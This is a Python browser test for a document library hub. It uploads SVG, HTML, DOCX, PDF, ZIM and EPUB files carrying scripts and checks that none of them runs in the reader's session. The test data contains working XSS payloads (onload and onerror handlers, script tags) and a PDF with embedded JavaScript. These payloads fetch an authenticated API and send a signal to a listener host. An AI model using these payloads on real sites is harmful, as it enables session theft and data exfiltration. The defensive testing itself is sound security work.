"""The other kinds that can carry a script, in a real Chromium: pictures, pages, documents, PDF, articles. None acts for us."""

from pathlib import Path

from playwright.async_api import Browser, Error, Page
from tests.hub.library import made, made_formats, zims
from tests.hub.library.browsing import PANEL, looking, opened
from tests.hub.library.test_hostile import Listener
from tests.hub.library.world import World, put_in

from densach_core.accounts.model import Role
from densach_hub.library.model import Kind

SCRIPT = (
    "try {{ document.title = 'taken'; top.document.title = 'taken' }} catch (e) {{}}"
    "fetch('{hub}/api/v1/desk/items', {{credentials: 'include'}}).then((r) => r.ok && fetch('{out}/session')).catch(() => 0);"
    "fetch('{out}/fetch').catch(() => 0); new Image().src = '{out}/image';"
)
SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="60" height="60" onload="{script}"><script>{script}</script></svg>'
HTML = '<!doctype html><title>Bài</title><p onclick="0">Chữ</p><script>{script}</script><img src=x onerror="{script}">'


def pdf_with_script(out: str) -> bytes:
    script = f"app.launchURL('{out}/launch'); this.submitForm('{out}/submit'); this.getURL('{out}/get');".encode()
    parts = [
        b"<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R/Names<</JavaScript<</Names[(a) 5 0 R]>>>>>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]/Contents 4 0 R/AA<</O 5 0 R>>/Annots[6 0 R]>>",
        b"<</Length 0>>stream\n\nendstream",
        b"<</S/JavaScript/JS(" + script.replace(b"(", rb"\(").replace(b")", rb"\)") + b")>>",
        b"<</Type/Annot/Subtype/Link/Rect[0 0 300 300]/A<</S/URI/URI(javascript:document.title='taken')>>>>",
    ]
    body = b"%PDF-1.4\n" + b"".join(b"%d 0 obj%s\nendobj\n" % (number, part) for number, part in enumerate(parts, 1))
    return body + b"trailer<</Root 1 0 R/Size 7>>\n%%EOF"


async def visited(page: Page, address: str) -> None:
    """Whatever is there; a file that is saved instead of shown ends the visit."""
    try:
        await page.goto(address, wait_until="load")
    except Error as problem:
        assert "Download" in str(problem) or "ERR_ABORTED" in str(problem), problem  # noqa: PT017 - how Chromium tells of a saved file


async def test_no_kind_acts_in_the_readers_name(browser: Browser, live: World, tmp_path: Path) -> None:
    with Listener() as outside:
        script = SCRIPT.format(out=outside.url, hub=live.base)
        page_ = HTML.format(script=script)
        evil = f"<script>{script}</script>".replace("<", "&lt;")
        office = made_formats.docx_files()
        zim = zims.zim(tmp_path / "made.zim", more=[("ac", "Bài ác", page_)])
        bodies = {
            "a.svg": SVG.format(script=script).encode(),
            "a.html": page_.encode(),
            "b.txt": page_.encode(),
            "c.docx": made_formats.packed(
                {**office, "word/document2.xml": str(office["word/document2.xml"]).replace("Khởi động", evil)}
            ),
            "d.pdf": pdf_with_script(outside.url),
            "e.zim": zim.read_bytes(),
            "f.epub": made.epub(files={"bia.svg": SVG.format(script=script).encode()}),
        }
        items = {name: await put_in(live.library, tmp_path, name, body) for name, body in bodies.items()}
        async with looking(browser, live, Role.LIBRARIAN, PANEL) as (page, _):
            told: list[str] = []
            for name, it in items.items():
                addresses = [f"{live.base}/items/{it.id}", f"{live.base}/read/{it.id}", f"{live.base}/items/{it.id}/file"]
                addresses += [f"{live.base}/items/{it.id}/file/{name}"]
                if it.kind is Kind.ZIM:
                    addresses += [f"{live.packages}/p/{it.id}/ac", f"{live.packages}/p/{it.id}/ac?words=chu"]
                if it.kind is Kind.EPUB:
                    addresses += [f"{live.base}/read/{it.id}/book/OEBPS/bia.svg"]
                for address in addresses:
                    await visited(page, address)
                    if it.kind is Kind.PDF and "/read/" in address:
                        await opened(page)
                        await page.mouse.click(683, 400)
                    if page.url.startswith(live.base) and await page.title() == "taken":
                        told.append(address)
            await page.wait_for_timeout(500)
            assert told == []
            assert len(page.context.pages) == 1
        assert outside.came == []
        await live.library.encyclopedias.rest()
